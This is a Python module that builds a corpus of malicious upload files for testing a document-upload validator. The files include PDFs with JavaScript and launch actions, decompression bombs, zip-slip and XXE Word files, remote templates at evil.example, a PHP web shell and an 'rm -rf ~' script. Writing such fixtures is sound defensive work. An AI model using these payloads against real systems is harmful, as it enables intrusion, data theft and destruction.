"""Files that want to do harm, made here byte by byte: what people and attackers send instead of a document."""

import io
import struct
import zipfile
import zlib
from collections.abc import Iterator

from PIL import Image

File = tuple[str, str, bytes]  # what it is, how it is named, what stands in it

HTML = b"<!doctype html><html><body><script>alert(document.domain)</script></body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
PHP = b"<?php system($_GET['c']); ?>"
EXE = b"MZ\x90\x00" + bytes(200)
RELATIONS = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">%s</Relationships>'
RELATION = b'<Relationship Id="r1" Type="http://schemas.example/relationships/%s" Target="%s" TargetMode="External"/>'


# ------------------------------------------------------------------------------------------------ PDF


def pdf(more: bytes = b"", *, pages: int = 1, trailer: bytes = b"") -> bytes:
    """A small PDF with these objects in it; its pages may be many."""
    kids = b" ".join(b"%d 0 R" % (100 + n) for n in range(pages))
    body = [b"%PDF-1.7\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n"]
    body.append(b"2 0 obj\n<</Type/Pages/Count %d/Kids[%s]>>\nendobj\n" % (pages, kids))
    page = b"%d 0 obj\n<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]>>\nendobj\n"
    body += [page % (100 + n) for n in range(pages)]
    return b"".join(body) + more + b"trailer\n<</Root 1 0 R%s>>\nstartxref\n0\n%%%%EOF\n" % trailer


def stream(about: bytes, content: bytes) -> bytes:
    return b"9 0 obj\n<<%s/Length %d>>\nstream\n%s\nendstream\nendobj\n" % (about, len(content), content)


def packed(inside: bytes, *, about: bytes = b"/Type/ObjStm/N 1/First 4/Filter/FlateDecode") -> bytes:
    return stream(about, zlib.compress(b"7 0 " + inside))


JS = b"<</S/JavaScript/JS(app.alert(1))>>"
PDFS = {
    "runs a script when it opens": b"5 0 obj\n<</OpenAction" + JS + b">>\nendobj\n",
    "runs a script under an escaped name": b"5 0 obj\n<</S/J#61va#53cript/JS(app.alert(1))>>\nendobj\n",
    "runs a script behind a comment": b"5 0 obj\n<</S %quiet\n /JavaScript /JS(1)>>\nendobj\n",
    "runs a script named elsewhere": b"5 0 obj\n/JavaScript\nendobj\n6 0 obj\n<</S 5 0 R/JS(1)>>\nendobj\n",
    "has scripts by name": b"5 0 obj\n<</Names<</JavaScript 6 0 R>>>>\nendobj\n",
    "hides a script in packed objects": packed(JS),
    "hides packed objects as something else": packed(JS, about=b"/Type/XObject/Filter/FlateDecode"),
    "packs objects in a rare way": packed(JS, about=b"/Type/ObjStm/Filter[/ASCIIHexDecode/FlateDecode]"),
    "packs objects and says nothing how": stream(b"/Type/ObjStm/N 1/First 4", b"7 0 " + JS),
    "starts a program": b"5 0 obj\n<</S/Launch/F(calc.exe)>>\nendobj\n",
    "sends what is typed": b"5 0 obj\n<</S/SubmitForm/F(https://evil.example)>>\nendobj\n",
    "takes data in": b"5 0 obj\n<</S/ImportData/F(x.fdf)>>\nendobj\n",
    "opens a file inside": b"5 0 obj\n<</S/GoToE/T<<>>>>\nendobj\n",
    "carries a file": b"5 0 obj\n<</EF<</F 6 0 R>>>>\nendobj\n" + stream(b"/Type/EmbeddedFile", EXE),
    "carries files by name": b"5 0 obj\n<</Names<</EmbeddedFiles 6 0 R>>>>\nendobj\n",
    "plays a film": b"5 0 obj\n<</Subtype/RichMedia/RichMediaContent 6 0 R>>\nendobj\n",
    "plays a sound": b"5 0 obj\n<</S/Sound/Sound 6 0 R>>\nendobj\n",
    "is a form of the kind with programs": b"5 0 obj\n<</AcroForm<</XFA 6 0 R>>>>\nendobj\n",
}


def pdfs() -> Iterator[File]:
    for what, objects in PDFS.items():
        yield f"a PDF that {what}", "cv.pdf", pdf(objects)
    yield "a PDF locked with a password", "cv.pdf", pdf(trailer=b"/Encrypt 5 0 R")
    yield "a PDF of 501 pages", "cv.pdf", pdf(pages=501)
    yield "a PDF of no page", "cv.pdf", pdf(pages=0)
    yield "a PDF that unfolds into a gigabyte", "cv.pdf", pdf(stream(b"/Filter/FlateDecode", bomb(1 << 30)))
    yield "a PDF cut off", "cv.pdf", pdf()[:-40]
    yield "a PDF with a web page before it", "cv.pdf", HTML + pdf()
    yield "a PDF with a web page after it", "cv.pdf", pdf() + HTML
    yield "a PDF that is a zip too", "cv.pdf", pdf() + zipped({"x.exe": EXE})
    yield "a PDF in name", "cv.pdf", b"%PDF-1.7\n"


def bomb(size: int) -> bytes:
    """So many zeros, packed a thousandfold."""
    pack, part = zlib.compressobj(9), bytes(1 << 20)
    return b"".join(pack.compress(part) for _ in range(size >> 20)) + pack.flush()


# ------------------------------------------------------------------------------------------------ pictures


def picture(kind: str = "JPEG", size: tuple[int, int] = (60, 40), **said: object) -> bytes:
    out = io.BytesIO()
    Image.linear_gradient("L").resize(size).convert("RGB").save(out, kind, **said)
    return out.getvalue()


def chunk(name: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + name + content + struct.pack(">I", zlib.crc32(name + content))


def png(width: int, height: int, *chunks: bytes, image: bytes = b"") -> bytes:
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    return (
        b"\x89PNG\r\n\x1a\n"
        + head
        + b"".join(chunks)
        + chunk(b"IDAT", image or zlib.compress(b""))
        + chunk(b"IEND", b"")
    )


def wide_jpeg() -> bytes:
    """A photo whose head says that it has four thousand million points."""
    made = bytearray(picture())
    at = made.index(b"\xff\xc0")
    made[at + 5 : at + 9] = struct.pack(">HH", 65_000, 65_000)
    return bytes(made)


def pictures() -> Iterator[File]:
    yield "a picture of 50,000 by 50,000 points", "id.png", png(50_000, 50_000)
    yield "a picture whose points unfold into a gigabyte", "id.png", png(20_000, 20_000, image=bomb(1 << 30))
    yield "a photo that says it is 65,000 wide", "id.jpg", wide_jpeg()
    yield "a text of a gigabyte in a picture", "id.png", png(9, 9, chunk(b"zTXt", b"a\0\0" + bomb(1 << 30)))
    yield "a profile of a gigabyte in a picture", "id.png", png(9, 9, chunk(b"iCCP", b"a\0\0" + bomb(1 << 30)))
    yield "a photo cut off", "id.jpg", picture(size=(400, 300))[:2000]
    yield "a picture cut off", "id.png", picture("PNG", (400, 300))[:300]
    yield "a drawing with a script, called a picture", "id.png", SVG
    yield "a drawing with a script", "id.svg", SVG
    yield "a moving picture called a photo", "id.jpg", b"GIF89a/*" + bytes(40) + b"*/=1;alert(1)//"
    yield "a photo of a newer phone", "IMG_0001.HEIC", b"\0\0\0\x18ftypheic" + bytes(60)
    yield "a photo of a newer phone, renamed", "IMG_0001.jpg", b"\0\0\0\x18ftypheic" + bytes(60)
    yield "a program that begins like a photo", "id.jpg", b"\xff\xd8\xff\xe0" + PHP
    yield "a PDF called a photo", "id.jpg", pdf()
    yield "a picture called a photo", "id.jpg", picture("PNG")


# ------------------------------------------------------------------------------------------------ Word documents


def zipped(parts: dict[str, bytes], *, comment: bytes = b"") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as parcel:
        for name, content in parts.items():
            parcel.writestr(name, content)
        parcel.comment = comment
    return out.getvalue()


def docx(more: dict[str, bytes] | None = None, *, text: bytes = b"<w:t>Plan</w:t>", comment: bytes = b"") -> bytes:
    parts = {
        "[Content_Types].xml": b"<Types/>",
        "_rels/.rels": RELATIONS % b"",
        "word/document.xml": b"<w:document>" + text + b"</w:document>",
    }
    return zipped(parts | (more or {}), comment=comment)


LAUGHS = b'<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]><l>&b;</l>'
DOCX = {
    "has programs": {"word/vbaProject.bin": EXE},
    "has programs by its list of parts": {"[Content_Types].xml": b"application/vnd.ms-word.document.macroEnabled"},
    "holds a control": {"word/activeX/activeX1.xml": b"<ax/>"},
    "holds a workbook": {"word/embeddings/sheet.xlsx": zipped({"x": b"x"})},
    "holds an object": {"word/embeddings/oleObject1.bin": EXE},
    "holds a program": {"word/setup.exe": EXE},
    "holds a web page": {"word/page.html": HTML},
    "unpacks above its folder": {"../../etc/cron.d/x.xml": b"x"},
    "unpacks at the root": {"/etc/cron.d/x.xml": b"x"},
    "unpacks with other slashes": {"..\\..\\x.xml": b"x"},
    "unpacks to a drive": {"C:/x.xml": b"x"},
    "says a part twice in other letters": {"WORD/DOCUMENT.XML": b"<w:document/>"},
    "reads a file of the reader's": {"word/x.xml": b'<!DOCTYPE x SYSTEM "file:///etc/passwd"><x/>'},
    "laughs a thousand million times": {"word/x.xml": LAUGHS},
    "laughs in two-byte letters": {"word/x.xml": LAUGHS.decode().encode("utf-16")},
    "fetches its template": {
        "word/_rels/a.rels": RELATIONS % (RELATION % (b"attachedTemplate", b"https://evil.example/t"))
    },
    "fetches an object": {"word/_rels/a.rels": RELATIONS % (RELATION % (b"oleObject", b"https://evil.example/t"))},
    "links to a script": {"word/_rels/a.rels": RELATIONS % (RELATION % (b"hyperlink", b"javascript:alert(1)"))},
    "links to a share": {"word/_rels/a.rels": RELATIONS % (RELATION % (b"hyperlink", b"file://evil.example/x"))},
    "has three thousand parts": {f"word/p{n}.xml": b"" for n in range(3000)},
    "unfolds into 200 MB": {"word/media/image1.png": bytes(200 << 20)},
}


def documents() -> Iterator[File]:
    for what, parts in DOCX.items():
        yield f"a document that {what}", "plan.docx", docx(parts)
    yield "a document that asks another program", "plan.docx", docx(text=b"<w:instrText>DDEAUTO c:\\x</w:instrText>")
    yield (
        "a document that asks in two parts",
        "plan.docx",
        docx(text=b"<w:instrText>DDE</w:instrText><w:t/><w:instrText>AUTO c:\\x</w:instrText>"),
    )
    yield (
        "a document that fetches a picture",
        "plan.docx",
        docx(text=b'<w:fldSimple w:instr=" INCLUDEPICTURE https://evil.example/x "/>'),
    )
    yield "a document with something after it", "plan.docx", docx() + HTML
    yield "a document with a remark at its end", "plan.docx", docx(comment=HTML)
    yield "a document with something before it", "plan.docx", b"PK\x03\x04" + HTML + docx()
    yield "a document cut off", "plan.docx", docx()[:-60]
    yield "a zip called a document", "plan.docx", zipped({"a.txt": b"a"})
    yield "a document of the old kind called a new one", "plan.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
    yield "a locked part", "plan.docx", locked(docx())
    yield "a document of the old kind", "plan.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
    yield "a document with programs", "plan.docm", docx()


def locked(made: bytes) -> bytes:
    """The same parcel with every part marked as locked."""
    out = bytearray(made)
    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = out.find(mark)
        while place >= 0:
            out[place + at] |= 1
            place = out.find(mark, place + 4)
    return bytes(out)


# ------------------------------------------------------------------------------------------------ texts and names

TEXTS = {
    "a web page": HTML,
    "a web page after blank lines": b"\n\n   " + HTML,
    "a script in the middle": b"Dear all,\n<script>alert(1)</script>\n",
    "a frame in the middle": b"Dear all,\n< iframe src=x>\n",
    "a drawing": SVG,
    "a program of the server": PHP,
    "a program of the shell": b"#!/bin/sh\nrm -rf ~\n",
    "a program": EXE,
    "a letter no text has": b"plan\0.txt",
    "orders for a terminal": b"\x1b]0;x\x07\x1b[2J",
    "letters of another table": "Ärger".encode("latin-1"),
    "two-byte letters": "plan".encode("utf-16"),
    "a PDF": pdf(),
}
NAMES = (
    "page.html", "PAGE.HTM", "page.xhtml", "run.php", "run.js", "run.exe", "run.bat", "archive.zip", "sheet.xlsm",
    "plan.pdf.exe", "plan.pdf.html", "plan.pdf::$DATA", "plan.pdf ", "plan", ".htaccess", "plan.", "mail.eml",
    "link.url", "short.lnk", "disk.iso", "plan.p\u0501f",
)  # fmt: skip


def texts_and_names() -> Iterator[File]:
    for what, content in TEXTS.items():
        yield f"{what} called a text", "note.txt", content
    for name in NAMES:
        yield f"a file called {name!r}", name, HTML
    for name in ("cv.pdf", "cv.PDF", "cv.jpg", "cv.Png", "cv.docx", "shell.php\x00.pdf", "cv.html;.pdf"):
        yield f"a web page called {name!r}", name, HTML
    yield "nothing at all", "cv.pdf", b""
    yield "eleven megabytes", "note.txt", b"a" * 11_000_000


def corpus() -> list[File]:
    return [*pdfs(), *pictures(), *documents(), *texts_and_names()]
